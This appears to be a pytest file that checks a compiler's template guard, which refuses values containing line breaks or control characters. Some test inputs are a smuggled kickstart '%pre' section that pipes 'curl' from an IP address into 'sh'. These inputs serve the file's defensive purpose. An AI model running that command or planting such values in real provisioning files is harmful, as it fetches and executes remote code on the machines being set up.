"""`compiler/targets/render.py`: the guard every template's values pass before they are written."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from compiler import load
from compiler.errors import SourceError
from compiler.pipeline import compile_source
from compiler.targets.render import Lines, UnsafeValue, template
from tests.conftest import REPO


class _Shown:
    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def _site(name: object) -> dict[str, Any]:
    return {"name": name}


@pytest.mark.parametrize(
    "value",
    [
        "rocky\n%pre --interpreter=/bin/sh\ncurl -s http://203.0.113.9/x | sh\n%end\n#",
        "a\rb",
        "tab\there",
        "nul\x00",
        "esc\x1b]0;title\x07",
        "nel\x85",
        "ls\u2028ps\u2029",
    ],
)
def test_a_value_with_a_line_break_or_control_is_refused(value: str) -> None:
    with pytest.raises(UnsafeValue) as raised:
        template("blackbox.yml.j2", site=_site(value))
    assert raised.value.value == value and raised.value.template == "blackbox.yml.j2"
    assert "\n" not in str(raised.value)  # the message quotes it escaped, on one line


def test_plain_text_and_lines_built_on_purpose_pass() -> None:
    assert "Zürich-1 · no-break\u00a0space" in template(
        "blackbox.yml.j2", site=_site("Zürich-1 · no-break\u00a0space")
    )
    # An object whose text is unsafe is caught as a string would be.
    with pytest.raises(UnsafeValue):
        template("blackbox.yml.j2", site=_site(_Shown("two\nlines")))
    # `Lines` is a target's own multi-line text, written as it is.
    assert "two\nlines" in template("blackbox.yml.j2", site=_site(Lines("two\nlines")))


def test_the_guard_names_the_field_it_came_from() -> None:
    """Loading refuses such values first; the guard is what stands when a value reaches a
    template by another way, and its error still points at the field."""
    source = load.load(REPO / "cluster")
    hostile = "rocky\n%pre\ncurl -s http://203.0.113.9/x | sh\n%end"
    provisioning = {**source.data["provisioning"], "os": hostile}
    forged = replace(source, data={**source.data, "provisioning": provisioning})

    with pytest.raises(SourceError) as raised:
        compile_source(forged)

    [problem] = raised.value.diagnostics
    assert (str(problem.location), problem.rule) == (
        "cluster/provisioning.yaml:2:1",
        "unsafe-value",
    )
    assert "provisioning.os" in problem.message and "\n" not in problem.message

